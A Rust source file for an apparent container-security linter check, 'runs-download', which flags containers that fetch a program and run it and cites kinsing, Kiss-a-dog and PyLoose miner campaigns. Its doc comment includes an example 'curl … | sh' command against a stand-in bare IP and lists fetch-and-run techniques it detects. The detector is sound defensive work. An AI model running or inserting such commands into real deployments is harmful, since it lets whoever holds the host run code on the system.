use ciel_core::Severity;
use ciel_mining::{SignalKind, Strength, Verdict};

use super::evidence::{explain, foremost};
use crate::{ContainerCx, declare_check};

declare_check! {
    /// ## What it does
    /// Finds containers (init containers and jobs among them) whose command fetches a program and runs it: `curl … | sh`,
    /// `bash <(wget …)`, a file that is fetched, made executable and started, Python that reads code from a URL, a script in
    /// base64. From a bare IP address, a paste site, an anonymous file host, a link shortener or Tor it is `high`; from
    /// other hosts, without TLS or in anybody's repository `medium`; a vendor's own installer `low`.
    ///
    /// ## Why is this bad?
    /// Whoever holds the host decides what runs, now and at every restart; image scanners never see it. It is how most miners
    /// arrive: kinsing's containers were plain `ubuntu` with one line of `wget` (Aqua, 2020), Kiss-a-dog piped a script to a
    /// shell (CrowdStrike, 2022), PyLoose fetched Python that unpacked its miner into memory (Wiz, 2023).
    ///
    /// ## Example
    /// ```yaml
    /// command: [sh, -c, "curl -s http://198.18.7.7/i.sh | sh"]
    /// ```
    ///
    /// ## Use instead
    /// Put the program into the image when it is built, and check its digest there.
    /// ```yaml
    /// image: registry.example.com/tools@sha256:…
    /// command: [install]
    /// ```
    ///
    /// ## Exceptions
    /// Internal hosts and addresses put together from variables are left alone, and so are downloads that are only unpacked
    /// or stored.
    ///
    /// ## References
    /// - <https://www.aquasec.com/blog/threat-alert-kinsing-malware-container-vulnerability/>
    /// - <https://www.wiz.io/blog/pyloose-first-python-based-fileless-attack-on-cloud-workloads>
    pub static RUNS_DOWNLOAD = {
        code: "MINE006",
        name: "runs-download",
        severity: High,
        since: "0.1.0",
        summary: "container fetches a program and runs it",
        run: Container(runs_download),
        frameworks: [mitre("T1105"), mitre("T1059"), ms("MS-TA9007")],
        aliases: [],
    }
}

fn runs_download(cx: &mut ContainerCx<'_>) {
    let container = cx.container;
    let Some(sign) = foremost(&cx.mining().commands, |kind| {
        kind == SignalKind::DownloadAndRun
    })
    .cloned() else {
        return;
    };
    let severity = match sign.signal.strength {
        Strength::Strong => Severity::High,
        Strength::Moderate => Severity::Medium,
        Strength::Weak if sign.signal.name == ciel_mining::HostKind::Vendor.as_str() => {
            Severity::Low
        }
        Strength::Weak => return,
    };
    let message = format!("{} {}", container.display(), sign.signal.description);
    let report = cx
        .report(&RUNS_DOWNLOAD, sign.node, message)
        .severity(severity)
        .help("put the program into the image when it is built, and check its digest there");
    explain(report, Verdict::Suspicious, &[&sign.signal]);
}
